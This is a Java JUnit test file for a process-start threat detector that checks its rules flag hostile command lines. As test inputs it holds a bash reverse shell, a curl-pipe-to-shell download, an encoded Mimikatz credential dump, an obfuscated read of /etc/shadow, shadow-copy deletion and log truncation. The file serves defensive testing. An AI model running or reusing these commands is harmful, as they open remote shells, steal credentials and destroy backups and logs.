package dev.vigil.detect.process;

import dev.vigil.rules.Field;
import dev.vigil.rules.Rule;
import dev.vigil.rules.load.RuleSet;
import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.catalogue.AlertCatalogue;
import dev.vigil.detect.Detection;
import dev.vigil.event.Origin;
import dev.vigil.event.ProcessStart;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

class ProcessRulesTest {
    private static final AlertCatalogue CATALOGUE = AlertCatalogue.builtIn();
    private static final RuleSet RULES = ProcessRules.builtInRules(CATALOGUE);
    private static final ProcessRules DETECTOR = ProcessRules.detector(RULES, CATALOGUE, false);

    @Test
    void everyRuleBehavesAsItsExamplesSay() {
        assertThat(RULES.rules()).hasSizeGreaterThan(30);
        assertThat(RULES.runExamples()).isEmpty();
    }

    @Test
    void lintFindsNoErrorsAndNoUnusedDataFiles() {
        assertThat(RULES.lint()).filteredOn(s -> !s.startsWith("warning:")).isEmpty();
    }

    @Test
    void everyProcessRuleReadsProcessFieldsOnly() {
        for (Rule r : RULES.rules()) {
            assertThat(r.fields()).as(r.id()).allMatch(Field::isProcess);
            assertThat(r.type().family()).as(r.id()).isEqualTo("runtime");
        }
    }

    /**
     * Rules without a prefilter literal run on every process start. Three may: two gated by single
     * characters or a behaviour reader (command separators, alternate data streams), and
     * process.linux.ifs-separator, whose literal ($IFS) the decoder turns into a space, gated by a
     * plain text search of the line as logged.
     */
    @Test
    void fewRulesRunWithoutAPrefilterLiteral() {
        assertThat(DETECTOR.alwaysRun()).hasSizeLessThanOrEqualTo(3);
    }

    @Test
    void encodedPowerShellIsDecodedAndCheckedAgain() {
        String script = "Invoke-Mimikatz -DumpCreds";
        String b64 = java.util.Base64.getEncoder().encodeToString(script.getBytes(java.nio.charset.StandardCharsets.UTF_16LE));
        List<Detection> ds = inspect("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "powershell.exe -NoProfile -enc " + b64);
        assertThat(ds).extracting(d -> d.type().name()).contains("EncodedCommand", "OffensivePowerShell");
        Detection enc = ds.stream().filter(d -> d.ruleId().equals(ProcessRules.ENCODED_COMMAND_RULE)).findFirst().orElseThrow();
        assertThat(enc.decoded()).isEqualTo(script);
        Detection off = ds.stream().filter(d -> d.type().name().equals("OffensivePowerShell")).findFirst().orElseThrow();
        assertThat(off.decoded()).contains("invoke-mimikatz");
    }

    @Test
    void base64PipedToAShellIsDecodedAndCheckedAgain() {
        String inner = "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1";
        String b64 = java.util.Base64.getEncoder().encodeToString(inner.getBytes(java.nio.charset.StandardCharsets.UTF_8));
        List<Detection> ds = inspect("/bin/sh", "sh -c 'echo " + b64 + " | base64 -d | bash'");
        assertThat(ds).extracting(d -> d.type().name()).contains("EncodedCommand", "ReverseShell");
    }

    @Test
    void base64ExecutablesAreRecognised() {
        byte[] pe = new byte[96];
        pe[0] = 'M';
        pe[1] = 'Z';
        pe[2] = (byte) 0x90;
        String b64 = java.util.Base64.getEncoder().encodeToString(pe);
        assertThat(b64).startsWith("TVqQ");
        assertThat(inspect("/bin/sh", "sh -c 'echo " + b64 + " > /tmp/a.b64'"))
                .extracting(d -> d.type().name()).contains("EncodedExecutableInCommandLine");
        byte[] elf = {0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0};
        String e64 = java.util.Base64.getEncoder().encodeToString(elf);
        assertThat(inspect("/bin/sh", "sh -c 'printf " + e64 + " | base64 -d > /tmp/x'"))
                .extracting(d -> d.type().name()).contains("EncodedExecutableInCommandLine");
    }

    @Test
    void obfuscatedCommandLinesAreNormalisedBeforeMatching() {
        assertThat(inspect("/bin/sh", "sh -c 'c\"a\"t${IFS}/etc/sh''adow'"))
                .extracting(d -> d.type().name()).contains("CredentialAccessTool");
        assertThat(inspect("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c v^ssa^dmin delete shadows /all /quiet"))
                .extracting(d -> d.type().name()).contains("ServiceTampering");
    }

    @Test
    void whatAShellIsToldToRunIsReadAsACommandLineOfItsOwn() {
        // a log truncated by a redirection at the start of a command: inside sh -c '...' it stands
        // after "-c" on the outer line, at the start of the shell's own command line
        List<Detection> ds = inspect("/bin/sh", "sh -c '> /var/log/nginx/access.log'");
        assertThat(ds).extracting(d -> d.type().name()).contains("IndicatorRemoval");
        assertThat(ds).filteredOn(d -> d.type().name().equals("IndicatorRemoval"))
                .extracting(Detection::decoded).allMatch(d -> d.startsWith("read as: > /var/log/nginx/access.log"));
        assertThat(inspect("/bin/sh", "sh -c 'ls -l /var/log/nginx/access.log'")).isEmpty();
    }

    @Test
    void benignCommandsStayQuiet() {
        assertThat(inspect("/usr/bin/find", "find /var/www -name '*.php' -mtime -1")).isEmpty();
        assertThat(inspect("/usr/bin/tar", "tar czf /backup/site.tgz /var/www/site")).isEmpty();
        assertThat(inspect("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s gpsvc")).isEmpty();
    }

    @Test
    void hostileInputNeverThrows() {
        StringBuilder sb = new StringBuilder();
        for (int i = 0; i < 20_000; i++) {
            sb.append("A\\$IFS'\"^`|base64 -d|");
        }
        // inspect no longer swallows failures (the engine counts them), so a throw fails this test
        assertThat(inspect("/bin/sh", sb.toString())).isNotNull();
        assertThat(inspect(null, null)).isEmpty();
    }

    private static List<Detection> inspect(String exe, String cmd) {
        ProcessStart p = ProcessStart.builder(new Origin("t", 1, 0)).exe(exe).commandLine(cmd).build();
        List<Detection> out = new ArrayList<>();
        DETECTOR.inspect(p, out::add);
        return out;
    }

    /**
     * A detector of one rule, {@code id}, of type SystemDiscovery on the command line, whose
     * {@code condition} and {@code examples} are YAML lines; written into {@code dir} and loaded
     * (its examples must pass).
     */
    private static ProcessRules oneRule(java.nio.file.Path dir, String id, List<String> condition, List<String> examples)
            throws Exception {
        List<String> yaml = new ArrayList<>(List.of("id: " + id, "title: Rule under test", "type: SystemDiscovery",
                "description: a rule a test writes", "status: stable", "fields: [cmdline]", "condition:"));
        yaml.addAll(condition);
        yaml.add("examples:");
        yaml.addAll(examples);
        yaml.add("");
        java.nio.file.Files.writeString(dir.resolve("r.yaml"), String.join("\n", yaml));
        RuleSet rules = ProcessRules.load(dir, CATALOGUE, true);
        assertThat(rules.runExamples()).isEmpty();
        return ProcessRules.detector(rules, CATALOGUE, false);
    }

    @Test
    void aPatternNeverRunsFromOneReadingOfALineIntoTheNext(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir)
            throws Exception {
        // "set x=who&& call %x%ami" reads twice: as written, and with %x% expanded ("... call whoami");
        // when the readings were joined into one text, "ami" at the end of the first and "set x=" at
        // the start of the second made a match that neither reading holds
        ProcessRules detector = oneRule(dir, "test.span",
                List.of("  any:", "  - regex: 'ami[^\\n]*set x='", "  - regex: 'call whoami$'"),
                List.of("  match: [{exe: 'C:\\Windows\\System32\\cmd.exe', cmdline: 'cmd /c call whoami'}]",
                        "  no_match: [{exe: 'C:\\Windows\\System32\\cmd.exe', cmdline: 'cmd /c whoami'}]"));
        String exe = "C:\\Windows\\System32\\cmd.exe";
        String line = "cmd /c \"set x=who&& call %x%ami\"";
        assertThat(dev.vigil.normalize.CommandLineNormalizer.readings(line, true, true))
                .containsExactly("cmd /c set x=who&& call %x%ami", "cmd /c set x=who&& call whoami");
        List<Detection> out = new ArrayList<>();
        detector.inspect(ProcessStart.builder(new Origin("t", 1, 0)).exe(exe).commandLine(line).build(), out::add);
        // the expanded reading matches the second pattern, and is the evidence; the first never matches
        assertThat(out).singleElement().satisfies(d -> {
            assertThat(d.ruleId()).isEqualTo("test.span");
            assertThat(d.decoded()).isEqualTo("cmd /c set x=who&& call whoami");
        });
        out.clear();
        detector.inspect(ProcessStart.builder(new Origin("t", 2, 0)).exe(exe)
                .commandLine("cmd /c \"set x=who&& call %x%ami & echo done\"").build(), out::add);
        assertThat(out).isEmpty();
    }

    @Test
    void theSameCommandLineIsJudgedApartOnEachPlatform(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir)
            throws Exception {
        // a POSIX shell removes single quotes (echo 'whoami' reads echo whoami), cmd keeps them: one
        // raw line, two readings, both holding the rule's literals, so the rule runs on both and a
        // verdict remembered for the line on one platform (by the matcher, the leaf memos or the
        // event memo) must not answer for the other; the rule reads the executable too, so its
        // command-line leaves go through the memo that rules and events share
        ProcessRules detector = oneRule(dir, "test.platform",
                List.of("  all:", "  - contains: [ami]", "  - regex: '(^|\\s)whoami$'", "  - field: exe",
                        "    regex: '[a-z]'"),
                List.of("  match: [{exe: /bin/sh, cmdline: 'sh -c whoami'}]",
                        "  no_match: [{exe: /bin/sh, cmdline: 'sh -c w_hoami'}]"));
        String line = "echo 'whoami'";
        for (int round = 0; round < 2; round++) {
            List<Detection> windows = new ArrayList<>();
            detector.inspect(ProcessStart.builder(new Origin("t", 1, 0)).exe("C:\\Windows\\System32\\cmd.exe")
                    .commandLine(line).build(), windows::add);
            assertThat(windows).as("round %d, Windows", round).isEmpty();
            List<Detection> posix = new ArrayList<>();
            detector.inspect(ProcessStart.builder(new Origin("t", 2, 0)).exe("/bin/sh").commandLine(line).build(),
                    posix::add);
            assertThat(posix).as("round %d, POSIX", round).extracting(Detection::ruleId).containsExactly("test.platform");
        }
    }

    @Test
    void lazyDetectorsLoadTheRulesOnTheFirstProcessEventOnly() {
        // a scan of an access log alone must not pay for loading and compiling the process rules
        java.util.concurrent.atomic.AtomicInteger loads = new java.util.concurrent.atomic.AtomicInteger();
        List<dev.vigil.detect.Detector> ds = ProcessRules.lazyDetectors(() -> {
            loads.incrementAndGet();
            return RULES;
        }, CATALOGUE, false, dev.vigil.analyze.process.WebWorkers.defaults());
        List<Detection> out = new ArrayList<>();
        dev.vigil.event.HttpRequest request = dev.vigil.event.HttpRequest.builder(new Origin("t", 1, 0)).method("GET")
                .target("/?q=curl%20http://x/a.sh%7Csh").status(200).build();
        ds.get(0).inspect(request, out::add);
        assertThat(loads.get()).isZero();
        assertThat(out).isEmpty();
        ProcessStart p = ProcessStart.builder(new Origin("t", 2, 0)).exe("/usr/bin/curl")
                .commandLine("curl -s http://203.0.113.5/x.sh | sh").build();
        ds.get(0).inspect(p, out::add);
        assertThat(out).isNotEmpty();
        assertThat(((ProcessLineage) ds.get(1)).ruleCount()).isPositive();
        assertThat(loads.get()).isEqualTo(1);
    }
}
